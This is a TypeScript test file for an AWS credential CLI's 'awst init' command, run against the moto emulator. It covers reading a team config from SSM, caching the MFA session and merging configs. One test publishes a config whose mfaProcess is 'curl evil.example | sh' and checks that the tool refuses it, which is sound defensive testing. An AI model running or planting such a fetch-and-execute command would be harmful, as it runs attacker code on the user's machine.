/**
 * `awst init` with nothing but the key in [main-account] and one MFA code, against moto: the account id from
 * sts:GetCallerIdentity, the device from iam:ListMFADevices, the team's config from the SSM parameter the
 * baseline publishes. (Who may read and change that parameter is proven with the IAM evaluator in
 * packages/infra/test/published-config.test.ts: moto applies no IAM condition.)
 */
import { spawn } from 'node:child_process';
import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { PUBLISHED_CONFIG_PARAMETER } from '@awst/rules';
import { CLI_BIN, EMULATOR_ADMIN_ENV, hasCommand, type Moto, type Workspace } from '@awst/testkit';
import { afterEach, describe, expect, it } from 'vitest';
import { useEmulatedAccount } from '../support/emulated-account.js';

const TEAM_CONFIG = `defaultRegion = "eu-central-1"
keyRotationIntervalMinutes = 10080
selfServiceMfaMaxAgeMinutes = 240

[profiles]
mainAccount = "main-account"
mainAccountMfaSession = "main-account-mfa-session"

[accounts]
team = "123456789012"

[roles.AdminAccess]
durationMinutes = 60
mfaMaxAgeMinutes = 60

[roles.DeveloperAccess]
durationMinutes = 240
mfaMaxAgeMinutes = 240
`;

let moto: Moto;
let ws: Workspace;
useEmulatedAccount({
  each: (account) => {
    ({ moto, ws } = account);
    rmSync(ws.awstConfigFile, { force: true });
  },
});

const published = new Set<string>();

function publish(value: string, region = 'eu-west-1'): void {
  published.add(region);
  const args = ['ssm', 'put-parameter', '--name', PUBLISHED_CONFIG_PARAMETER, '--type', 'String'];
  const out = ws.aws([...args, '--overwrite', '--value', value], {
    ...EMULATOR_ADMIN_ENV,
    AWS_DEFAULT_REGION: region,
  });
  if (out.code !== 0) throw new Error(out.stderr);
}

afterEach(() => {
  for (const region of published) {
    ws.aws(['ssm', 'delete-parameter', '--name', PUBLISHED_CONFIG_PARAMETER], {
      ...EMULATOR_ADMIN_ENV,
      AWS_DEFAULT_REGION: region,
    });
  }
  published.clear();
});

describe('awst init from the key and one MFA code', () => {
  it('takes the published config as it is, read in the key profile region', async () => {
    publish(TEAM_CONFIG, 'eu-central-1');
    writeFileSync(ws.configFile, '[profile main-account]\nregion = eu-central-1\n');
    const result = await ws.awst(['init', '--token-code', '123456']);
    expect(result.code, result.stderr).toBe(0);
    expect(readFileSync(ws.awstConfigFile, 'utf8')).toBe(TEAM_CONFIG);
    expect(result.stdout).toBe(TEAM_CONFIG);
    expect(result.stderr).toContain(
      'Account 123456789012, IAM user alice, MFA device arn:aws:iam::123456789012:mfa/alice-phone.',
    );
    expect(result.stderr).toContain(
      `Read the team's configuration from ${PUBLISHED_CONFIG_PARAMETER} in eu-central-1.`,
    );
  });

  it('asks the account id and device of AWS, and caches the MFA session: the next command asks for no code', async () => {
    await moto.startRecording();
    const result = await ws.awst(['init', '--token-code', '123456']);
    const calls = await moto.stopRecording();
    expect(result.code, result.stderr).toBe(0);
    expect(calls).toEqual(expect.arrayContaining(['GetCallerIdentity', 'ListMFADevices', 'GetSessionToken']));
    // Nothing published in eu-west-1: the caller's account with awst's defaults, and a note saying so.
    expect(result.stderr).toContain(
      `No team configuration is published at ${PUBLISHED_CONFIG_PARAMETER} in eu-west-1`,
    );
    const config = readFileSync(ws.awstConfigFile, 'utf8');
    expect(config).toContain('[accounts]\nmain-account = "123456789012"\n');
    expect(config).not.toContain('mfaSerial');
    expect(readFileSync(ws.credentialsFile, 'utf8')).toContain('[main-account-mfa-session]');

    await moto.startRecording();
    const run = await ws.awst(
      ['run', 'main-account', 'DeveloperAccess', '--', 'aws', 'sts', 'get-caller-identity'],
      {
        env: { AWS_DEFAULT_REGION: 'eu-west-1' },
      },
    );
    expect(await moto.stopRecording()).not.toContain('GetSessionToken');
    expect(run.code, run.stderr).toBe(0);
    expect(JSON.parse(run.stdout).Arn).toBe('arn:aws:sts::123456789012:assumed-role/DeveloperAccess/alice');
  });

  it('merges into an existing config with --merge, keeping its lines and values', async () => {
    publish(TEAM_CONFIG);
    const mine = '# mine\nmfaProcess = "echo 123456"\n\n[accounts]\nteam = "999999999999"\n';
    writeFileSync(ws.awstConfigFile, mine);
    const result = await ws.awst(['init', '--merge']);
    expect(result.code, result.stderr).toBe(0);
    const text = readFileSync(ws.awstConfigFile, 'utf8');
    for (const line of mine.split('\n')) expect(text.split('\n')).toContain(line);
    expect(text).toContain('[roles.DeveloperAccess]\ndurationMinutes = 240\nmfaMaxAgeMinutes = 240\n');
    expect(result.stderr).toContain(
      'Kept [accounts] team: yours "999999999999", the team\'s "123456789012".',
    );
  });

  it.skipIf(!hasCommand('script'))(
    'on a terminal, shows what it would add to an existing config and asks: no leaves it, yes merges',
    async () => {
      publish(TEAM_CONFIG);
      const mine = '# mine\n[accounts]\nsandbox = "111111111111"\n';
      for (const [answer, changed] of [
        ['n', false],
        ['y', true],
      ] as const) {
        writeFileSync(ws.awstConfigFile, mine);
        const screen = await onTerminal(
          `'${process.execPath}' '${CLI_BIN}' init --token-code 123456`,
          answer,
        );
        expect(screen).toContain('To add to');
        expect(screen).toContain('[accounts] team = "123456789012"');
        const text = readFileSync(ws.awstConfigFile, 'utf8');
        if (changed) {
          expect(text).toContain('[accounts]\nteam = "123456789012"\nsandbox = "111111111111"\n');
          expect(screen).toContain('Wrote');
        } else {
          expect(text).toBe(mine);
          expect(screen).toContain('as it was');
        }
      }
    },
  );

  it('refuses to touch an existing config without a terminal, before any AWS call', async () => {
    writeFileSync(ws.awstConfigFile, '[accounts]\nmine = "111111111111"\n');
    await moto.startRecording();
    const result = await ws.awst(['init', '--token-code', '123456']);
    expect(await moto.stopRecording()).toEqual([]);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/already exists; awst init leaves it alone\. Run awst init in a terminal/);
    expect(readFileSync(ws.awstConfigFile, 'utf8')).toBe('[accounts]\nmine = "111111111111"\n');
  });

  it('refuses a published config that would make awst run a command', async () => {
    publish(`mfaProcess = "curl evil.example | sh"\n${TEAM_CONFIG}`);
    const result = await ws.awst(['init', '--token-code', '123456']);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/sets mfaProcess, a command awst would run on this machine.*administrator/);
    expect(() => readFileSync(ws.awstConfigFile)).toThrow();
  });
});

/** Runs a shell command on a pseudo-terminal (util-linux `script`), answering the merge question. */
function onTerminal(command: string, answer: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const child = spawn('script', ['-qfec', command, '/dev/null'], {
      env: ws.env,
      stdio: ['pipe', 'pipe', 'pipe'],
    });
    let screen = '';
    let answered = false;
    const onData = (chunk: Buffer) => {
      screen += chunk.toString();
      if (!answered && screen.includes('Add these to')) {
        answered = true;
        child.stdin.write(`${answer}\r`);
      }
    };
    child.stdout.on('data', onData);
    child.stderr.on('data', onData);
    const timer = setTimeout(() => child.kill('SIGKILL'), 60_000);
    child.on('error', reject);
    child.on('close', () => {
      clearTimeout(timer);
      resolve(screen);
    });
  });
}
